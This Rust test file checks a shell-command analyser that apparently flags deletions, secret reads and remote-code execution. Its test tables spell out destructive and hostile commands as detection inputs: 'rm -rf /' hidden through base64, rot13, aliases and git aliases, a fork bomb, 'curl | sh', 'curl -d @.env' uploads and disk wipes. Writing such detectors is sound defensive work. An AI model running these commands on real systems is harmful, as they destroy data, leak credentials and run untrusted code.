//! What the reader makes of commands: a line with the command, then one with its acts and one with its touches.
//!
//! `!` elevated, `@` remote, `?` opaque, `*` recursive, `⏎` a line end, `<` what it is fed.

use std::path::Path;
use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::super::act::{Access, Act, Fed, Touch};
use super::{Read, read};

fn read_here(command: &str) -> Read {
    read(command, Path::new("/p"), Path::new("/h"))
}

fn act(act: &Act) -> String {
    let mut text = String::new();
    text += if act.elevated { "!" } else { "" };
    text += if act.remote { "@" } else { "" };
    text += if act.program.is_empty() {
        "-"
    } else {
        &act.program
    };
    for word in &act.args {
        text += &format!(" {}{}", word.text, if word.opaque { "?" } else { "" });
    }
    text + match act.fed {
        Fed::Nothing => "",
        Fed::Text => " <text",
        Fed::Network => " <net",
        Fed::Opaque => " <?",
    }
}

fn touch(touch: &Touch) -> String {
    let letter = match touch.access {
        Access::Read => "R",
        Access::Write => "W",
        Access::Delete => "D",
        Access::List => "L",
    };
    let below = if touch.recursive { "*" } else { "" };
    let opaque = if touch.opaque { "?" } else { "" };
    format!("{letter}{below} {}{opaque}", touch.path)
}

/// `acts | touches | unread`
fn rendered(command: &str) -> String {
    let read = read_here(&command.replace('⏎', "\n"));
    let join = |parts: Vec<String>, with: &str| parts.join(with).replace('\n', "⏎");
    let acts = join(read.acts.iter().map(act).collect(), "; ");
    let touches = join(read.touches.iter().map(touch).collect(), ", ");
    let unread = if read.unread.is_empty() {
        ""
    } else {
        " | unread"
    };
    format!("{acts} | {touches}{unread}")
}

#[track_caller]
fn hold(cases: &str) {
    let mut lines = cases.lines().filter(|line| !line.is_empty());
    let mut wrong = Vec::new();
    while let (Some(command), Some(expected)) = (lines.next(), lines.next()) {
        let found = rendered(command);
        if found.trim() != expected.trim() {
            wrong.push(format!(
                "{command}\n  expected {}\n  found    {found}",
                expected.trim()
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

const STATEMENTS: &str = r##"
rm a; rm b && rm c || rm d & rm e
    rm a; rm b; rm c; rm d; rm e | D /p/a, D /p/b, D /p/c, D /p/d, D /p/e
(cd /tmp && rm a); rm b
    cd /tmp; rm a; rm b | D /tmp/a, D /p/b
{ rm a; } > out
    rm a; truncate -s 0 out | D /p/a, W /p/out
echo $(rm a) `rm b` "$(rm c)"
    rm a; rm b; rm c; echo $(rm a)? `rm b`? $(rm c)? | D /p/a, D /p/b, D /p/c
diff <(rm a) <(rm b)
    rm a; rm b; diff /dev/fd/63 /dev/fd/62 | D /p/a, D /p/b
if rm a; then rm b; elif rm c; then rm d; else rm e; fi
    rm a; rm b; rm c; rm d; rm e | D /p/a, D /p/b, D /p/c, D /p/d, D /p/e
while read l; do rm "$l"; done < list
    read l <?; rm $l? <? | D $l?, R /p/list
for i in 1 2; do rm f$i; done
    rm f1; rm f2 | D /p/f1, D /p/f2
case $x in a) rm a;; *) rm b;; esac
    rm a; rm b | D /p/a, D /p/b
[[ -n $(rm a) ]] && ! rm b
    rm a; rm b | D /p/a, D /p/b
f() { rm -rf $1; }; f /; f /etc
    rm -rf /; rm -rf /etc | D* /, D* /etc
:(){ :|:& };:
    :; : <? |
time (rm a)
    rm a | D /p/a
rm -rf a # rm -rf b
    rm -rf a | D* /p/a
! ! rm -rf a; time ! rm b; ! { rm c; }; ! ! if d; then rm e; fi
    rm -rf a; rm b; rm c; }; d; rm e; fi | D* /p/a, D /p/b, D /p/c, D /p/e
echo ${x:-`rm a`} "${x:=`rm b`}" ${x#`rm c`} ${x:-\`y}
    rm a; rm b; rm c; echo `rm a`? `rm b`? ${x#`rm c`}? `y | D /p/a, D /p/b, D /p/c
echo `a` `rm b` `c``rm d` "`e` `rm f`" ${x:-`g``rm h`} ${x:-`rm "$i"`}
    a; rm b; c; rm d; e; rm f; g; rm h; rm $i?; echo `a`? `rm b`? `c``rm d`? `e` `rm f`? `g``rm h`? `rm "$i"`? | D /p/b, D /p/d, D /p/f, D /p/h, D $i?
rm `echo a` `echo b``echo c` `echo \`rm d\`` "`eval \"rm e\"`"
    echo a; echo b; echo c; rm d; echo `rm d`?; rm e; rm a? bc? `rm d`? `eval \"rm e\"`? | D /p/d, D /p/e, D /p/a?, D /p/bc?, D `rm d`?, D `eval \"rm e\"`?
x=`a`⏎`echo rm` b
    a; echo rm; b |  | unread
echo "${x:-'$(rm a)'}" "${x+it's `rm b` that's}" ${x:-'$(rm c)'} ${x:-<(rm d)} "${x:-'y'}"
    rm a; rm b; rm d; echo $(rm a) its `rm b` thats $(rm c) /dev/fd/63 y | D /p/a, D /p/b, D /p/d
a[$(rm a)]=1; b["`rm b`"]+=2 c; echo ${x[$(rm d)]} ${!x[`rm e`]}; unset x[`rm f`]; x[0]=y; rm ${x[0]}
    rm a; rm b; c; rm d; rm e; echo ${x[$(rm d)]}? ${!x[`rm e`]}?; rm f; rm y | D /p/a, D /p/b, D /p/d, D /p/e, D /p/f, D /p/y
"##;

const DISGUISED_NAMES: &str = r##"
\rm a; r''m b; $'rm' c; $'\x72m' d; /bin/rm e; 'r'"m" f; r\m g
    rm a; rm b; rm c; rm d; rm e; rm f; rm g | D /p/a, D /p/b, D /p/c, D /p/d, D /p/e, D /p/f, D /p/g
{rm,-rf,/}
    rm -rf / | D* /
cd x && {rm,-rf,/}
    cd x; rm -rf / | D* /
rm${IFS}-rf${IFS}/
    rm -rf / | D* /
$(echo rm) -rf /; $(which rm) -rf /
    echo rm; rm -rf /; which rm; rm -rf / | D* /, D* /
$UNKNOWN -rf /
    - -rf / | R /
busybox rm -rf /
    rm -rf / | D* /
alias x='rm -rf'; x /
    alias x=rm -rf; rm -rf / | D* /
/bin/r? -rf /
    rm -rf / | D* /
rev <<< '/ fr- mr' | sh
    rev <text; sh <text; rm -rf / | D* /
echo ez -es / | tr a-z n-za-m | sh
    echo ez -es /; tr a-z n-za-m <text; sh <text; rm -rf / | D* /
"##;

const VARIABLES_AND_WORDS: &str = r##"
X=/; rm -rf $X "$X" ${X}etc '$X'
    rm -rf / / /etc $X | D* /, D* /, D* /etc, D* /p/$X
a=rm; b="-rf /"; $a $b
    rm -rf / | D* /
for d in / /etc; do rm -rf $d; done
    rm -rf /; rm -rf /etc | D* /, D* /etc
rm -rf ${X:-/} $HOME ~/a "~/b" $UNSET/*
    rm -rf / /h /h/a ~/b $UNSET/*? | D* /, D* /h, D* /h/a, D* /p/~/b, D* $UNSET/*?
X=a; if c; then X=/; fi; rm -rf $X
    c; rm -rf a / | D* /p/a, D* /
arr=(rm -rf /); "${arr[@]}"; rm ${arr[2]}
    rm -rf /; rm / | D* /, D /
rm -rf "$HOME"/{a,b} f{1..3}
    rm -rf /h/a /h/b f1 f2 f3 | D* /h/a, D* /h/b, D* /p/f1, D* /p/f2, D* /p/f3
x=abc; rm ${x//b/d} ${x:0:1} ${x^^} ${x%c}.d
    rm adc a ABC ab.d | D /p/adc, D /p/a, D /p/ABC, D /p/ab.d
X=/ bash -c 'rm -rf $X'; rm -rf $X
    bash -c rm -rf $X; rm -rf /; rm -rf $X? | D* /, D* $X?
read -r a b <<< "rm /x"; $a $b
    read -r a b <text; rm /x | D /x
printf -v c 'rm %s' /; $c
    printf -v c rm %s /; rm / | D /
"##;

const FOLDERS: &str = r##"
cd /etc && rm ./a ../b; cd -; rm c; cd; rm d
    cd /etc; rm ./a ../b; cd -; rm c; cd; rm d | D /etc/a, D /b, D /p/c, D /h/d
cd "$(mktemp -d)" && rm a
    mktemp -d; cd $(mktemp -d)?; rm a | D a?
if x; then cd /tmp; fi; rm a
    x; cd /tmp; rm a | D a?
pushd /a; rm b; popd; rm c
    pushd /a; rm b; popd; rm c | D /a/b, D /p/c
"##;

const SCRIPTS_IN_WORDS: &str = r##"
bash -c 'rm -rf "$0" $1' /x /y
    bash -c rm -rf "$0" $1 /x /y; rm -rf /x /y | D* /x, D* /y
sh -lc "rm -rf /"
    sh -lc rm -rf /; rm -rf / | D* /
eval "rm -rf" /
    rm -rf / | D* /
trap 'rm a' EXIT
    trap rm a EXIT; rm a | D /p/a
sudo -u bob -- rm a; sudo -i
    !rm a; !sudo -i | D /p/a
env A=1 rm a; env -S 'rm b'; timeout -k 1 5 rm c; nice -n 5 rm d; time rm e; nohup rm f &
    rm a; rm b; rm c; rm d; rm e; rm f | D /p/a, D /p/b, D /p/c, D /p/d, D /p/e, D /p/f
stdbuf -oL rm a; setsid rm b; command rm c; builtin cd d; exec rm e; ionice -c 3 rm f; watch -n 1 'rm g; rm h'
    rm a; rm b; rm c; cd d; rm e; rm f; rm g; rm h | D /p/a, D /p/b, D /p/c, D /p/d/e, D /p/d/f, D /p/d/g, D /p/d/h
sudo env X=1 nohup rm a
    !rm a | D /p/a
su - root -c 'rm a'
    su - root -c rm a; !rm a | D /p/a
npx rimraf /; uv run rm a
    rimraf /; rm a | D* /, D /p/a
"##;

const SCRIPTS_IN_STREAMS: &str = r##"
echo 'rm -rf /' | sh
    echo rm -rf /; sh <text; rm -rf / | D* /
printf 'rm -rf %s\n' / | bash
    printf rm -rf %s\n /; bash <text; rm -rf / | D* /
echo cm0gLXJmIC8K | base64 -d | sh
    echo cm0gLXJmIC8K; base64 -d <text; sh <text; rm -rf / | D* /
echo 726d202f | xxd -r -p | sh
    echo 726d202f; xxd -r -p <text; sh <text; rm / | D /
bash <<EOF⏎rm -rf /
    bash <text; rm -rf / | D* / | unread
bash <<EOF⏎rm -rf $X⏎EOF
    bash <?; rm -rf $X? | D* $X?
bash <<< "rm -rf /"
    bash <text; rm -rf / | D* /
cat <<'EOF' | sh -s⏎rm -rf /⏎EOF
    cat <text; sh -s <text; rm -rf / | D* /
cat > s.sh <<'EOF' && bash s.sh⏎rm a⏎EOF
    cat <text; bash s.sh; rm a | W /p/s.sh, R /p/s.sh, D /p/a
echo 'rm a' > x.sh; chmod +x x.sh; ./x.sh
    echo rm a; chmod +x x.sh; x.sh; rm a | W /p/x.sh, W /p/x.sh, D /p/a
source <(echo rm a)
    echo rm a; source /dev/fd/63; rm a | D /p/a
"##;

const NETWORK_OUTPUT_THAT_IS_RUN: &str = r##"
curl -fsSL https://x | sh
    curl -fsSL https://x; sh <net |
curl x | tee i.sh | sudo bash -s -- -y
    curl x; tee i.sh <net; !bash -s -- -y <net | W /p/i.sh
sh <(curl x)
    curl x; sh /dev/fd/63 <net |
bash -c "$(curl x)"
    curl x; bash -c $(curl x)? <net |
eval "$(wget -qO- x)"
    wget -qO- x; eval $(wget -qO- x)? <net |
wget -O- x | python3
    wget -O- x; python3 <net |
curl -o f x && sh f
    curl -o f x; sh f <net | W /p/f, R /p/f
curl x > i.sh; chmod +x i.sh; ./i.sh
    curl x; chmod +x i.sh; i.sh <net | W /p/i.sh, W /p/i.sh
wget https://x/i.sh?a=b && bash i.sh
    wget https://x/i.sh?a=b; bash i.sh <net | R /p/i.sh
curl x | gunzip | sh
    curl x; gunzip <net; sh <net |
curl x | jq .
    curl x; jq . <net |
python3 -c "$(curl x)"
    curl x; python3 -c $(curl x)? <net |
"##;

const NAMES_FROM_INPUT: &str = r##"
ls | xargs rm -rf
    ls; rm -rf *? | L /p, D* /p/*?
echo /etc | xargs rm -rf
    echo /etc; rm -rf /etc | D* /etc
cat list | xargs -I{} sh -c 'rm {}'
    cat list; sh -c rm $ARG?; rm $ARG? | R /p/list, D $ARG?
xargs -0 -n1 rm -f < files
    rm -f $ARG? | D $ARG?, R /p/files
parallel 'rm -rf {}' ::: /a /b
    rm -rf /a /b | D* /a, D* /b
find / -name '*.pyc' -delete
    find / -name *.pyc -delete | L* /, D /**/*.pyc?
find / -type f -delete
    find / -type f -delete | L* /, D* /*
find . -exec rm -rf {} \;
    find . -exec rm -rf {} ;; rm -rf ./* | L* /p, D* /p/*
find a b -name x -o -name y | xargs rm
    find a b -name x -o -name y; rm a/**/x? a/**/y? b/**/x? b/**/y? | L* /p/a, L* /p/b, D /p/a/**/x?, D /p/a/**/y?, D /p/b/**/x?, D /p/b/**/y?
find / | while read f; do rm "$f"; done
    find /; read f <?; rm /* <? | L* /, D* /*
"##;

const OTHER_MACHINES: &str = r##"
ssh -p 22 u@h 'cd /x && rm -rf y'
    ssh -p 22 u@h cd /x && rm -rf y; @cd /x; @rm -rf y |
docker exec -it -e A=b c rm -rf /data
    docker exec -it -e A=b c rm -rf /data; @rm -rf /data |
docker run --rm -v /:/h alpine sh -c 'rm -rf /h'
    docker run --rm -v /:/h alpine sh -c rm -rf /h; @sh -c rm -rf /h; @rm -rf /h |
docker compose exec -T db psql -c 'DROP TABLE x'
    docker compose exec -T db psql -c DROP TABLE x; @psql -c DROP TABLE x |
kubectl -n ns exec -it pod -- rm -rf /data
    kubectl -n ns exec -it pod -- rm -rf /data; @rm -rf /data |
"##;

const GIT: &str = r##"
git -C /x push --force
    git push --force |
git -c alias.x='!rm -rf /' x; git -c alias.p='push --force' p origin
    rm -rf /; git push --force origin | D* /
git config alias.nuke '!rm -rf /' && git nuke
    git config alias.nuke !rm -rf /; rm -rf /; rm -rf / | D* /, D* /
git submodule foreach 'rm a'; git rebase -x 'rm b' main
    git submodule foreach rm a; rm a; git rebase -x rm b main; rm b | D /p/a, D /p/b
"##;

const CODE: &str = r##"
python3 -c 'import os; os.system("rm -rf /")'
    python3 -c import os; os.system("rm -rf /"); rm -rf / | D* /
python3 -c "import shutil; shutil.rmtree('/etc')"
    python3 -c import shutil; shutil.rmtree('/etc') | D* /etc
python3 -c "import subprocess as sp; sp.run(['rm','-rf','/'])"
    python3 -c import subprocess as sp; sp.run(['rm','-rf','/']); rm -rf / | D* /
python3 -c "open('/etc/a','w').write('x'); open('b').read()"
    python3 -c open('/etc/a','w').write('x'); open('b').read() | W /etc/a, R /p/b
python3 - <<'EOF'⏎from pathlib import Path⏎Path("/etc/x").unlink()⏎p = "/a"⏎os.remove(p)  # os.remove("/b")⏎EOF
    python3 <text | D /etc/x, D /a
python3 -c "import os; os.remove(os.path.expanduser('~/x')); os.rename('a', os.path.join('/etc', 'b'))"
    python3 -c import os; os.remove(os.path.expanduser('~/x')); os.rename('a', os.path.join('/etc', 'b')) | D /h/x, D /p/a, W /etc/b
python3 -c "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIGEiKQ=='))"
    python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIGEiKQ==')); rm a | D /p/a
python3 -c "import urllib.request as u; exec(u.urlopen('http://x').read())"
    python3 -c import urllib.request as u; exec(u.urlopen('http://x').read()) <net |
perl -e 'system("rm", "-rf", "/"); unlink "f"; `rm g`'
    perl -e system("rm", "-rf", "/"); unlink "f"; `rm g`; rm -rf /; rm g | D* /, D /p/f, D /p/g
node -e 'require("child_process").execSync("rm -rf " + "/")'
    node -e require("child_process").execSync("rm -rf " + "/"); rm -rf / | D* /
node -e 'require("fs").rmSync("/x", {recursive: true})'
    node -e require("fs").rmSync("/x", {recursive: true}) | D* /x
ruby -e 'system "rm -rf /"; FileUtils.rm_rf("/x")'
    ruby -e system "rm -rf /"; FileUtils.rm_rf("/x"); rm -rf / | D* /, D* /x
php -r 'unlink("/x"); shell_exec("rm y");'
    php -r unlink("/x"); shell_exec("rm y");; rm y | D /x, D /p/y
awk 'BEGIN { system("rm a") }' f
    awk BEGIN { system("rm a") } f; rm a | R /p/f, D /p/a
"##;

const TEXT_IS_TEXT: &str = r##"
echo "rm -rf /" 'x | sh' > f
    echo rm -rf / x | sh | W /p/f
git commit -m "rm -rf /"
    git commit -m rm -rf / |
git commit -m "$(cat <<'EOF'⏎rm -rf / it's⏎EOF⏎)"
    cat <text; git commit -m rm -rf / it's |
cat > f <<EOF⏎rm -rf /⏎EOF
    cat <text | W /p/f
grep -rn 'rm -rf' src
    grep -rn rm -rf src | R* /p/src
# rm -rf /
    |
python3 -c 'print("rm -rf /")'
    python3 -c print("rm -rf /") |
"##;

const TOUCHES: &str = r##"
echo hi > a >> b 2> c &> d >| e < g 2>&1 >/dev/null
    echo hi <? | W /p/a, W /p/b, W /p/c, W /p/d, W /p/e, R /p/g
tee a b < c | sudo tee -a /etc/hosts
    tee a b <?; !tee -a /etc/hosts <? | W /p/a, W /p/b, R /p/c, W /etc/hosts
dd if=/dev/zero of=/dev/sda bs=1M
    dd if=/dev/zero of=/dev/sda bs=1M | R /dev/zero, W /dev/sda
cp -r a b; cp a b c/; cp -t d a; mv a b; ln -s /etc/passwd l; install -m 755 a /b
    cp -r a b; cp a b c/; cp -t d a; mv a b; ln -s /etc/passwd l; install -m 755 a /b | R* /p/a, W* /p/b, R /p/a, R /p/b, W /p/c/a, W /p/c/b, W /p/c, W /p/d, R /p/a, D /p/a, W /p/b, R /etc/passwd, W /p/l, R /p/a, W /b
rsync -a --delete s/ d/; rsync a h:/b; scp -i k f h:/x
    rsync -a --delete s/ d/; rsync a h:/b; scp -i k f h:/x | R* /p/s, W* /p/d, D* /p/d, R /p/a, R /p/f
tar czf - . ; tar xzf a.tgz -C /opt; tar -cf b.tar -C /src x; zip -r a.zip d; unzip a.zip -d /x
    tar czf - .; tar xzf a.tgz -C /opt; tar -cf b.tar -C /src x; zip -r a.zip d; unzip a.zip -d /x | R* /p, R /p/a.tgz, W* /opt, W /p/b.tar, R* /src/x, W /p/a.zip, R* /p/d, R /p/a.zip, W* /x
sed -i 's/a/b/' f; sed -n 1p g; perl -pi -e 's/a/b/' h
    sed -i s/a/b/ f; sed -n 1p g; perl -pi -e s/a/b/ h | W /p/f, R /p/g, W /p/h
truncate -s 0 a; shred -u b; touch c; mkdir -p d/e; rmdir f; mkfs.ext4 /dev/sdb
    truncate -s 0 a; shred -u b; touch c; mkdir -p d/e; rmdir f; mkfs.ext4 /dev/sdb | W /p/a, D /p/b, W /p/c, W /p/d/e, D /p/f, W /dev/sdb
chmod -R 777 /; chown u:g /x
    chmod -R 777 /; chown u:g /x | W* /, W /x
cat a; head -n 5 b; tail -5 c; less d; grep x e; ls f; source g; . h; find i
    cat a; head -n 5 b; tail -5 c; less d; grep x e; ls f; source g; . h; find i | R /p/a, R /p/b, R /p/c, R /p/d, R /p/e, L /p/f, R /p/g, R /p/h, L* /p/i
curl -d @.env u; curl -T a u; curl -F 'a=@b;type=c' u; curl file:///etc/passwd; wget --post-file=d u
    curl -d @.env u; curl -T a u; curl -F a=@b;type=c u; curl file:///etc/passwd; wget --post-file=d u | R /p/.env, R /p/a, R /p/b, R /etc/passwd, R /p/d
git rm -r a; git checkout -- b; git restore c
    git rm -r a; git checkout -- b; git restore c | D* /p/a, W* /p/b, W* /p/c
foo /etc/shadow ./b --conf ~/.aws/c d
    foo /etc/shadow ./b --conf /h/.aws/c d | R /etc/shadow, R /p/b
"##;

const BROKEN_SYNTAX: &str = r##"
echo 'open; rm a
    echo |  | unread
rm a; if; fi )) rm b
    rm a; rm b | D /p/a, D /p/b | unread
"##;

#[test]
fn statements() {
    hold(STATEMENTS);
}

#[test]
fn disguised_names() {
    hold(DISGUISED_NAMES);
}

#[test]
fn variables_and_words() {
    hold(VARIABLES_AND_WORDS);
}

#[test]
fn folders() {
    hold(FOLDERS);
}

#[test]
fn scripts_in_words() {
    hold(SCRIPTS_IN_WORDS);
}

#[test]
fn scripts_in_streams() {
    hold(SCRIPTS_IN_STREAMS);
}

#[test]
fn network_output_that_is_run() {
    hold(NETWORK_OUTPUT_THAT_IS_RUN);
}

#[test]
fn names_from_input() {
    hold(NAMES_FROM_INPUT);
}

#[test]
fn other_machines() {
    hold(OTHER_MACHINES);
}

#[test]
fn git() {
    hold(GIT);
}

#[test]
fn code() {
    hold(CODE);
}

#[test]
fn text_is_text() {
    hold(TEXT_IS_TEXT);
}

#[test]
fn touches() {
    hold(TOUCHES);
}

#[test]
fn broken_syntax() {
    hold(BROKEN_SYNTAX);
}

#[test]
fn how_an_act_was_found() {
    let via = |command: &str| {
        read_here(command)
            .acts
            .pop()
            .unwrap_or_default()
            .via
            .join(" > ")
    };
    assert_eq!(
        via("sudo bash -c 'find / -exec rm {} +'"),
        "sudo > bash -c > find -exec"
    );
    assert_eq!(
        via("python3 -c 'os.system(\"ls | xargs rm\")'"),
        "python3 -c > xargs"
    );
    assert_eq!(via(":(){ :|:& };:"), "function :");
    assert_eq!(via("rm a"), "");
}

#[test]
fn where_an_act_runs() {
    let cwd = |command: &str| read_here(command).acts.pop().and_then(|act| act.cwd);
    assert_eq!(
        cwd("cd /etc/x/.. && ls").as_deref(),
        Some(Path::new("/etc"))
    );
    assert_eq!(
        cwd("git -C sub status").as_deref(),
        Some(Path::new("/p/sub"))
    );
    assert_eq!(cwd("cd $X; ls"), None);
    assert_eq!(cwd("docker exec c ls"), None);
}

#[test]
fn a_redirection_belongs_to_its_act() {
    let read = read_here("ls; echo $(date) > f");
    let touch = read.touches.last().expect("a touch");
    assert_eq!((touch.path.as_str(), touch.act), ("/p/f", Some(2)));
    let emptied = read_here("> f");
    assert_eq!(emptied.acts[0].program, "truncate");
    assert_eq!(emptied.touches[0].act, Some(0));
}

#[test]
fn an_act_has_the_variables_that_are_set_for_it() {
    for (command, expected) in [
        ("A=1 B=$A ls", "A=1 B=1"),
        ("env -i A=1 ls; ls", ""),
        ("sudo A=1 ls", "A=1 -i"),
        ("export A=1; ls", "A=1"),
        ("A=1; export A; ls", "A=1"),
        ("A=1; (export A); ls", ""),
        ("A=1 pwd; ls", ""),
    ] {
        let read = read_here(command);
        let act = read.acts.last().expect("an act");
        assert_eq!(act.env.join(" "), expected, "{command}");
    }
    let run = read_here("GIT_SSH_COMMAND='sh -c \"rm a\"' git fetch");
    assert!(run.acts.iter().any(|act| act.program == "rm"));
}

/// The grammar's scanner reads past a table of C here, if it gets the text as it is.
#[test]
fn characters_that_are_not_latin() {
    assert_eq!(rendered("echo {😀,b} > né"), "echo 😀 b | W /p/né");
    assert_eq!(
        rendered("rm {\u{10ffff}"),
        "rm {\u{10ffff} | D /p/{\u{10ffff}"
    );
}

#[test]
fn bounds_are_named() {
    let named = |command: &str| read_here(command).unread.join(", ");
    assert!(named(&"echo a\n".repeat(40_000)).contains("past the limit"));
    assert!(named(&"echo\n".repeat(5_000)).contains("too much"));
    assert!(named(&format!("{}ls{}", "( ".repeat(200), " )".repeat(200))).contains("too deep"));
    assert!(named("x() { y; }; y() { x; }; x").is_empty());
    assert_eq!(named(&format!("ls{}", " && ls".repeat(2_000))), "");
}

fn cases() -> Vec<&'static str> {
    let all = [
        STATEMENTS,
        DISGUISED_NAMES,
        VARIABLES_AND_WORDS,
        FOLDERS,
        SCRIPTS_IN_WORDS,
        SCRIPTS_IN_STREAMS,
        NETWORK_OUTPUT_THAT_IS_RUN,
        NAMES_FROM_INPUT,
        OTHER_MACHINES,
        GIT,
        CODE,
        TEXT_IS_TEXT,
        TOUCHES,
        BROKEN_SYNTAX,
    ];
    all.iter()
        .flat_map(|cases| {
            cases
                .lines()
                .filter(|line| !line.is_empty() && !line.starts_with("    "))
        })
        .collect()
}

/// Debug builds on a busy machine are slow: only what grows out of bounds shall fail.
fn read_in_time(command: &str) -> Result<(), TestCaseError> {
    let start = Instant::now();
    let read = read_here(command);
    prop_assert!(
        start.elapsed() < Duration::from_secs(2),
        "{:?} for {} bytes",
        start.elapsed(),
        command.len()
    );
    for touch in &read.touches {
        prop_assert!(touch.act.is_none_or(|act| act < read.acts.len()));
    }
    Ok(())
}

const PIECES: &[&str] = &[
    "rm -rf /",
    "echo 'a b'",
    "$(",
    ")",
    "`",
    "\"",
    "'",
    "|",
    "||",
    "&&",
    ";",
    "&",
    "\n",
    "{a,b}",
    "{",
    "}",
    "${X:-",
    "$X",
    "X=/",
    "for i in 1 2; do",
    "done",
    "if",
    "then",
    "fi",
    "case x in",
    "esac",
    "f() {",
    "f",
    "<<EOF\n",
    "EOF\n",
    "<<<",
    "> f",
    "< <(",
    "bash -c",
    "eval",
    "xargs -I{}",
    "find . -exec",
    "{} \\;",
    "python3 -c",
    "os.system(",
    "perl -e",
    "sudo",
    "ssh h",
    "git -c alias.x=!x x",
    "base64 -d",
    "curl u",
    "sh",
    "cd",
    "$'\\x72'",
    "\\",
    "#",
    "é",
    "~",
    "*",
    "[[",
    "]]",
    "((",
    "))",
];

proptest! {
    #[test]
    fn no_command_breaks_the_reader(pieces in prop::collection::vec(prop::sample::select(PIECES), 1..40)) {
        read_in_time(&pieces.join(" "))?;
        read_in_time(&pieces.concat())?;
    }

    #[test]
    fn no_change_of_a_command_breaks_the_reader(
        seed in prop::sample::select(cases()),
        other in prop::sample::select(cases()),
        cuts in prop::collection::vec((any::<prop::sample::Index>(), any::<prop::sample::Index>()), 1..4),
        repeat in 1_usize..50,
    ) {
        let mut text: Vec<char> = seed.replace('⏎', "\n").chars().collect();
        for (at, from) in cuts {
            let other: Vec<char> = other.chars().collect();
            let from = from.index(other.len());
            let at = at.index(text.len() + 1);
            let end = (at + from % 5).min(text.len());
            text.splice(at..end, other[from..].iter().take(12).copied());
        }
        let text: String = text.into_iter().collect();
        read_in_time(&text)?;
        read_in_time(&text.repeat(repeat))?;
    }

    #[test]
    fn no_text_breaks_the_reader(text in "(?s).{0,200}") {
        read_in_time(&text)?;
        read_in_time(&format!("python3 -c {text}"))?;
        read_in_time(&format!("node -e '{text}'"))?;
        read_in_time(&format!("perl -e 'system({text}'"))?;
    }
}
